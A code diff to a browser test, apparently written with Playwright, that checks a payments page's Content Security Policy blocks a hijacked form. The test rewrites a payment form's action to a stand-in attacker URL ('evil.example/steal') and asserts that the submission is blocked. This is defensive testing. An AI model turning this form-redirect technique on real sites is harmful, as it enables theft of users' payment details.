@@ -13,7 +13,7 @@ const payment = (page: Page) => page.locator('#pagos li', { hasText: 'NYK' }).ge
 /** Opens the page with the payments as somebody whose browser keeps this. */
 async function opened(kept: object, more: Readonly<Record<string, string>> = {}) {
   const visitor = await site.visit();
-  await visitor.context.route(/example\.com|evil\.example/, (route) => route.fulfill({ body: 'ok' }));
+  await visitor.context.route(/^https:\/\/[^/?]*example/, (route) => route.fulfill({ body: 'ok' }));
   await visitor.context.addInitScript(
     (entries) => {
       for (const [key, value] of entries) localStorage.setItem(key, value);
@@ -81,18 +81,17 @@ describe('55: a hidden form', () => {
     const asked: string[] = [];
     context.on('request', (request) => asked.push(request.url()));
     await page.goto('/tramites-y-consultas', { waitUntil: 'networkidle' });
-    const broken = page.evaluate(
-      () =>
-        new Promise((done) =>
-          document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective)),
-        ),
+    await page.evaluate(() =>
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        document.title = effectiveDirective;
+      }),
     );
     await payment(page).evaluate((button: HTMLButtonElement) => {
       button.form?.setAttribute('action', 'https://evil.example/steal');
       button.form?.setAttribute('target', '_self');
+      button.click();
     });
-    await payment(page).click();
-    expect(await broken).toBe('form-action');
+    await expect.poll(() => page.title()).toBe('form-action');
     expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
     complaints.length = 0;
     await context.close();
